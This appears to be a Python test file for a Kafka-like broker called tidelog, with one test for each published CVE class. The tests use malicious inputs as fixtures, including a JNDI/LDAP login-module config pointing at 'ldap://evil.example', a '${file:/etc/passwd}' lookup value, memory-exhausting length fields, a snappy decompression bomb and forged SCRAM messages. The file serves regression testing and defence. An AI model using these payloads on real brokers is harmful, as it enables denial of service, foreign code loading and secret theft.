"""One test for each class of published vulnerabilities in Kafka, its clients and its peers that could be ours, too.

Each names the CVE. What has more tests elsewhere is asserted here once, in the shape of the CVE.
"""

import ast
import hmac
import re
import socket
import struct
import tracemalloc
from pathlib import Path
from types import SimpleNamespace

import pytest

import tidelog
from tests.compatibility.differential.batches import with_field
from tests.node.one_broker import CLIENT, TOPIC_ID, WALL, OneBroker
from tests.quorum.replicas import One
from tests.shell.echo import framed, is_closed, receive_frame, serving
from tidelog.api.authorization import GUARDS
from tidelog.api.registry import APIS, CONTROLLER_APIS
from tidelog.config.broker import BrokerConfig
from tidelog.config.option import Dynamic
from tidelog.errors import ApiError, ErrorCode, InvalidOption, ProtocolViolation
from tidelog.log.inspection import inspect
from tidelog.security import access_tokens, sasl, scram
from tidelog.security.acls import (
    Acl,
    AclIndex,
    AclOperation,
    Binding,
    PatternType,
    Permission,
    ResourcePattern,
    ResourceType,
)
from tidelog.shell.blocking_frames import receive_frame as receive_blocking
from tidelog.wire import codec, compression
from tidelog.wire.frames import Buffers, FrameReader
from tidelog.wire.messages import SCHEMAS
from tidelog.wire.messages.records.fetch import FetchPartition, FetchRequest, FetchTopic, ReplicaState
from tidelog.wire.records import TRANSACTIONAL, Record, build, header

CLIENTS = [
    *(api for api in APIS.values() if api.caller != "broker"),
    *(api for key, api in CONTROLLER_APIS.items() if key not in APIS),
]
SOURCES = sorted(Path(tidelog.__file__).parent.rglob("*.py"))
HUGE = b"\xff\xff\xff\xff\x0f"
"""An unsigned varint of 32 ones."""
SHA_256 = scram.MECHANISMS["SCRAM-SHA-256"]


def peak_bytes(work):
    """The most memory that was allocated while `work` ran; a violation may end it."""
    tracemalloc.start()
    try:
        work()
    except ProtocolViolation:
        pass
    finally:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    return peak


def listener(**options):
    given = {"sasl.enabled.mechanisms": "PLAIN,SCRAM-SHA-256", **options}
    given["plain.sasl.jaas.config"] = 'a.PlainLoginModule required user_alice="wonder" user_bob="builder";'
    credential = scram.credential(SHA_256, scram.salted(SHA_256, "builder", b"salt", 4096), b"salt", 4096)
    users = {"bob": scram.Account("bob", credential)}
    return sasl.SaslListener(BrokerConfig(given), lambda _, user, by_token: users.get(user), bytes)


def one_broker():
    broker = OneBroker(min_insync_replicas=1)
    broker.lead(isr=(0,), replicas=(0,))
    return broker


# Memory that a few bytes cost.


@pytest.mark.parametrize("count", [HUGE, b"\x91\x4e"], ids=["four thousand million", "10,001"])
def test_the_number_of_tagged_fields_in_a_request_header(count):
    """CVE-2026-111115: out of memory before authentication, by a count in the header of any flexible request."""
    start = struct.pack(">hhih", 18, 3, 1, -1) + count + b"\x00\x00" * (10_001 if count != HUGE else 5)
    for decode in (codec.decode_header, codec.decode_request):
        with pytest.raises(ProtocolViolation):
            decode(start)
        assert peak_bytes(lambda decode=decode: decode(start)) < 100_000


@pytest.mark.parametrize("api", CLIENTS, ids=lambda api: api.name)
def test_the_length_of_an_array(api):
    """CVE-2026-111108: out of memory by the length of an array, for which the generated readers allocated at once."""
    for version in {api.low, api.high}:
        flexible = SCHEMAS[api.key].is_flexible(version)
        for count in (HUGE,) if flexible else (struct.pack(">i", 2**31 - 1), struct.pack(">i", 1_000_000)):
            start = struct.pack(">hhih", api.key, version, 1, -1) + (b"\x00" if flexible else b"")
            for before in (0, 2, 4, 8):
                frame = start + bytes(before) + count * 20
                peak_bytes(lambda frame=frame: codec.decode_request(frame))  # compiles the decoder
                codec_peak = peak_bytes(lambda frame=frame: codec.decode_request(frame))
                assert codec_peak < 300_000, (version, before)


def test_client_metrics_are_not_offered():
    """CVE-2026-111073: PushTelemetry (72) decompressed without a limit. Tidelog has neither it nor the subscription."""
    assert not {71, 72} & set(APIS)


def test_the_lengths_inside_snappy():
    """CVE-2023-34455: a chunk's length made Java's snappy allocate two gigabytes."""
    java = b"\x82SNAPPY\x00\x00\x00\x00\x01\x00\x00\x00\x01"
    raw_length = b"\xff\xff\xff\xff\x07"  # what a raw block says that it inflates to
    for data in (java + b"\x7f\xff\xff\xff" + b"x" * 20, java + struct.pack(">i", 8) + raw_length + b"abc", raw_length):

        def decompress(data=data):
            with pytest.raises(ApiError):
                compression.decompress(2, data)

        assert peak_bytes(decompress) < 1_000_000


@pytest.mark.parametrize("kind", [1, 2, 3, 4])
def test_a_few_compressed_bytes_that_inflate_to_many(kind):
    """The class of CVE-2026-111073 for Produce: a broker that looks inside stops at a multiple of max.message.bytes."""
    bomb = build([Record(timestamp=WALL, key=b"k", value=bytes(2_000_000))], compression=kind)
    broker = OneBroker(log_cleanup_policy="compact", message_max_bytes=100_000)
    broker.lead()
    rules = broker.partition().log.rules
    with pytest.raises(ApiError) as error:
        inspect(bomb, header(bomb), rules)
    assert error.value.code == ErrorCode.MESSAGE_TOO_LARGE


def test_the_length_of_a_request_before_authentication():
    """CVE-2022-34917: unauthenticated clients made brokers allocate what their frames announced."""
    limit = BrokerConfig({}).sasl_server_max_receive_size
    with pytest.raises(ProtocolViolation):
        FrameReader(limit).feed(struct.pack(">i", limit + 1))
    buffers = Buffers()
    readers = [FrameReader(100_000_000, buffers) for _ in range(250)]
    for reader in readers:
        reader.feed(struct.pack(">i", 100_000_000) + b"few")
    assert buffers.used <= 250 * 64 * 1024


# Faults that end more than one request.


def test_a_request_that_meets_a_bug_ends_only_its_connection(monkeypatch):
    """CVE-2026-83525: a FetchSnapshot without topics ended the controller. No handler's exception ends a process."""
    broker = one_broker()
    monkeypatch.setitem(broker.node.dispatch._handlers, (3, False), lambda request, context: request.no_such_field)
    number = broker.send(SCHEMAS[3].request(topics=[]), version=9)
    assert number not in broker.answers
    assert broker.closed == [CLIENT]
    assert [event.fields["api"] for event in broker.events if event.kind == "request.failed"] == ["Metadata"]
    broker.connect(77)
    assert broker.produced(broker.produce("on", connection=77)) == (0, 0)


@pytest.mark.parametrize("key", [52, 53, 54, 59])
def test_a_request_to_the_quorum_without_topics(key):
    """CVE-2026-83525: on a controller itself."""
    one = One()
    one.lead()
    answer = one.answers[one.request(SCHEMAS[key].request(topics=[]))]
    assert answer.error_code == ErrorCode.INVALID_REQUEST


def test_a_request_that_waits_keeps_its_own_bytes():
    """CVE-2026-35554: a client used a buffer again that was still to be sent, and data went to the wrong topic."""
    buffers = Buffers()
    reader = FrameReader(10_000_000, buffers)
    (waiting,) = reader.feed(struct.pack(">i", 300_000) + b"a" * 300_000)
    (later,) = reader.feed(struct.pack(">i", 300_000) + b"b" * 300_000)
    assert (waiting[0], later[0]) == (ord("a"), ord("b"))
    broker = OneBroker(min_insync_replicas=1, log_cleanup_policy="compact")
    broker.lead(isr=(0,), replicas=(0,))
    number = broker.produce(records=build([Record(timestamp=WALL, key=b"k", value=b"a" * 100_000)]))
    assert broker.produced(number) is None, "it waits, and OneBroker has wiped the frame"
    broker.computed()
    assert broker.produced(number) == (0, 0)
    segment = broker.partition().log.segments.active
    assert segment.file.read(0, segment.size).count(b"a") == 100_000


# Who may do what.


def test_describing_a_group_needs_describe_and_every_api_has_a_guard():
    """CVE-2026-41115: ConsumerGroupDescribe asked for READ instead of DESCRIBE. CVE-2023-50976 (Redpanda): transaction
    APIs that asked for nothing. tests/api/test_authorization.py has the whole table: with exactly its operations a
    request is allowed, with every other one it is refused."""
    from tests.api.test_authorization import CASES

    assert set(APIS) <= set(GUARDS)
    needs = {key: alternatives for key, _, _, alternatives in CASES}
    assert "Group DESCRIBE" in needs[69][0]
    for transactional in (22, 24, 25, 26, 28):
        assert GUARDS[transactional] is not None
        assert needs[transactional][0]


def test_a_removed_acl_takes_no_other_with_it():
    """CVE-2024-27309: removing one ACL of a resource lost the others, and what they denied was allowed."""
    pattern = ResourcePattern(ResourceType.TOPIC, "orders", PatternType.LITERAL)
    deny = Acl("User:mallory", "*", AclOperation.ALL, Permission.DENY)
    allow = Acl("User:*", "*", AclOperation.READ, Permission.ALLOW)
    more = Acl("User:bob", "*", AclOperation.WRITE, Permission.ALLOW)
    index = AclIndex([Binding(pattern, acl) for acl in (deny, allow, more)])
    index.replace(pattern, [deny, allow])
    left = [binding.acl for binding in index.about(ResourceType.TOPIC, "orders")]
    assert set(left) == {deny, allow}


def test_a_client_is_no_replica():
    """CVE-2018-1288: a client that claimed to be a replica moved the high watermark, and records were lost."""
    broker = OneBroker()
    broker.lead()
    broker.connect(50)
    waiting = broker.produce("a")
    wanted = FetchPartition(partition=0, fetch_offset=1, partition_max_bytes=1000)
    request = FetchRequest(
        replica_state=ReplicaState(replica_id=1, replica_epoch=101),
        topics=[FetchTopic(topic_id=TOPIC_ID, partitions=[wanted])],
    )
    answer = broker.ask(request, 50)
    assert answer.error_code == ErrorCode.CLUSTER_AUTHORIZATION_FAILED
    assert broker.partition().high_watermark == 0
    assert broker.produced(waiting) is None


def test_nobody_logs_in_as_somebody_else():
    """CVE-2017-12610: a user with a valid password became any other user by an authorization id."""
    side = listener().exchange("PLAIN")
    with pytest.raises(sasl.Failed, match="authorization id that is different"):
        side.send(b"alice\0bob\0builder")
    side = listener().exchange("SCRAM-SHA-256")
    with pytest.raises(sasl.Failed, match="authorization id that is different"):
        side.send(b"n,a=alice,n=bob,r=nonce")


def test_a_transactional_batch_needs_its_transactional_id():
    """CVE-2018-17196: a Produce without transactional id wrote into transactions, past the ACL of the id."""
    broker = one_broker()
    batch = build(
        [Record(timestamp=WALL, value=b"v")], attributes=TRANSACTIONAL, producer_id=7, producer_epoch=0, base_sequence=0
    )
    answer = broker.produced(broker.produce(records=batch))
    assert answer == (ErrorCode.TRANSACTIONAL_ID_AUTHORIZATION_FAILED, -1)


# Logins.


@pytest.mark.parametrize("missing", ["jwks.endpoint.url", "expected.issuer"])
def test_tokens_that_nothing_could_verify_are_not_accepted(missing):
    """CVE-2026-110985, CVE-2026-33557: signatures were not verified without a URL of keys, and by default any token was
    accepted. Here such a listener does not start; tests/security/test_access_tokens.py has forged tokens."""
    prefix = "sasl.oauthbearer."
    options = {
        f"{prefix}jwks.endpoint.url": "file:///keys",
        f"{prefix}expected.issuer": "issuer",
        f"{prefix}expected.audience": "kafka",
    }
    access_tokens.check(BrokerConfig(options))
    del options[prefix + missing]
    with pytest.raises(InvalidOption, match=missing):
        access_tokens.check(BrokerConfig(options))
    with pytest.raises(InvalidOption):
        access_tokens.check(BrokerConfig({}))


def scram_until_final(change):
    """The end of an exchange whose last message was changed."""
    server = listener().exchange("SCRAM-SHA-256")
    client = scram.client(SHA_256, "bob", "builder", "abcdef")
    final = client.send(server.send(next(client)))
    server.send(change(final))


def test_the_nonce_of_the_last_scram_message():
    """CVE-2024-56128: it was not compared with the server's (RFC 5802)."""
    with pytest.raises(StopIteration) as end:
        scram_until_final(lambda final: final)
    assert end.value.value.user == "bob"
    for old, new in ((b"r=abcdef", b"r=abcdeX"), (b"c=biws", b"c=eSws")):
        with pytest.raises(sasl.Failed):
            scram_until_final(lambda final, old=old, new=new: final.replace(old, new))


def test_secrets_are_compared_in_constant_time(monkeypatch):
    """CVE-2021-38153: passwords were compared byte by byte, and the time said how many were right."""
    compared = []

    def compare_digest(one, other):
        compared.append({bytes(one), bytes(other)})
        return hmac.compare_digest(one, other)

    for module in (sasl, scram):
        monkeypatch.setattr(module, "hmac", SimpleNamespace(compare_digest=compare_digest, digest=hmac.digest))
    with pytest.raises(sasl.Failed):
        listener().exchange("PLAIN").send(b"\0alice\0wondeR")
    assert {b"wondeR", b"wonder"} in compared
    compared.clear()
    with pytest.raises(StopIteration):
        scram_until_final(lambda final: final)
    assert len(compared) >= 2, "the proof's key, and the nonce"


def test_what_a_scram_server_asks_of_our_client():
    """CVE-2026-10143 (kafka-python): a server named a number of iterations that kept the client busy for hours."""
    client = scram.client(SHA_256, "bob", "builder", "abc")
    next(client)
    with pytest.raises(ApiError):
        client.send(b"r=abcdef,s=c2FsdA==,i=2000000000")


def test_the_length_of_a_response_to_our_client():
    """CVE-2026-10142 (kafka-python): a length without limit or sign in a response."""
    for length in (-1, 2**31 - 1):
        ours, theirs = socket.socketpair()
        with ours, theirs:
            theirs.sendall(struct.pack(">i", length))
            with pytest.raises(ConnectionResetError):
                receive_blocking(ours)
    with pytest.raises(ProtocolViolation):
        FrameReader(2**31 - 1).feed(struct.pack(">i", -5))


# Options.


TABLES_OF_MODULES = {"api/registry.py", "wire/messages/__init__.py", "wire/source.py", "wire/message.py"}
"""What imports a module that a table of ours names, or compiles code that it generated itself."""
_LOADERS = re.compile(r"\b(eval|exec|import_module|__import__|pickle|yaml|marshal)\b")


def loaders(path):
    """The calls in a source file that load or execute code, as far as their names say so."""
    text = path.read_text(encoding="utf-8")
    if not _LOADERS.search(text):
        return set()
    functions = [node.func for node in ast.walk(ast.parse(text)) if isinstance(node, ast.Call)]
    names = {node.id for node in functions if isinstance(node, ast.Name)}
    attributes = {node.attr for node in functions if isinstance(node, ast.Attribute)}
    modules = {
        node.value.id for node in functions if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name)
    }
    return (
        names & {"eval", "exec", "import_module", "__import__"}
        | attributes & {"import_module"}
        | modules & {"pickle", "yaml", "marshal"}
    )


def test_no_option_names_code_to_load():
    """CVE-2023-25194, CVE-2025-27818, CVE-2025-27819: login modules in sasl.jaas.config ran foreign code. Here options
    name nothing that is imported or executed: only tables of our own modules are."""
    for module in ("JndiLoginModule", "LdapLoginModule"):
        login = f'com.sun.security.auth.module.{module} required user.provider.url="ldap://evil.example";'
        with pytest.raises(InvalidOption, match="is not supported"):
            sasl.check(BrokerConfig({"sasl.enabled.mechanisms": "PLAIN", "plain.sasl.jaas.config": login}))
    root = Path(tidelog.__file__).parent
    found = {path.relative_to(root).as_posix() for path in SOURCES if loaders(path)}
    serving_clients = {path for path in found if not path.startswith(("sim/", "cli/", "spark/", "lab/"))}
    assert serving_clients == TABLES_OF_MODULES


def test_values_of_options_are_not_looked_up():
    """CVE-2024-31141: values such as ${file:…} and ${env:…} read files and environment variables. CVE-2025-27817: URLs
    of clients' options read files. Values are text, and no URL of a broker can be changed while it runs."""
    text = "${file:/etc/passwd:root}"
    config = BrokerConfig({"config.providers": "file", "broker.rack": text, "listeners": "PLAINTEXT://:9092"})
    assert config.broker_rack == text
    dynamic = {name for name, option in BrokerConfig.OPTIONS.items() if option.dynamic is not Dynamic.READ_ONLY}
    assert "max.connections" in dynamic
    assert not {name for name in dynamic if ".url" in name or "callback.handler" in name}
    assert BrokerConfig.OPTIONS["config.providers"].ignored


def test_a_failed_login_shows_no_secret():
    """CVE-2026-33558: secrets in log lines. tests/shell/test_sasl.py searches a broker's log for every secret."""
    for message in (b"\0alice\0wrong-secret", b"\0nobody\0wrong-secret", b"alice\0bob\0wrong-secret", b"wrong-secret"):
        with pytest.raises(sasl.Failed) as failed:
            listener().exchange("PLAIN").send(message)
        assert "wrong-secret" not in f"{failed.value!r} {failed.value} {failed.value.reason}"
    credential = scram.credential(SHA_256, b"s" * 32, b"wrong-secret", 4096)
    assert "wrong-secret" not in repr(credential)


# Lengths on a live connection, once.


def test_lengths_that_are_negative_or_beyond_the_limit_close_the_connection():
    """The class of CVE-2026-10142 for brokers: nothing is allocated, nobody else is disturbed, and it is counted."""
    with serving({"socket.request.max.bytes": "1000"}) as running, running.connect() as good:
        for length in (-1, -(2**31), 0, 1001, 2**31 - 1):
            with running.connect() as bad:
                bad.sendall(struct.pack(">i", length))
                assert is_closed(bad)
        good.sendall(framed(b"still"))
        assert receive_frame(good) == b"still"
        assert running.server.events["connection.violation"] == 5


def test_a_batch_has_no_fields_of_the_brokers_own():
    """The class of CVE-2018-17196: no client writes markers of transactions, or a batch of another producer's id."""
    broker = one_broker()
    good = build([Record(timestamp=WALL, value=b"v")])
    for attributes in (0x20, 0x30):
        code, _ = broker.produced(broker.produce(records=with_field(good, "attributes", attributes)))
        assert code in (ErrorCode.INVALID_RECORD, ErrorCode.TRANSACTIONAL_ID_AUTHORIZATION_FAILED)
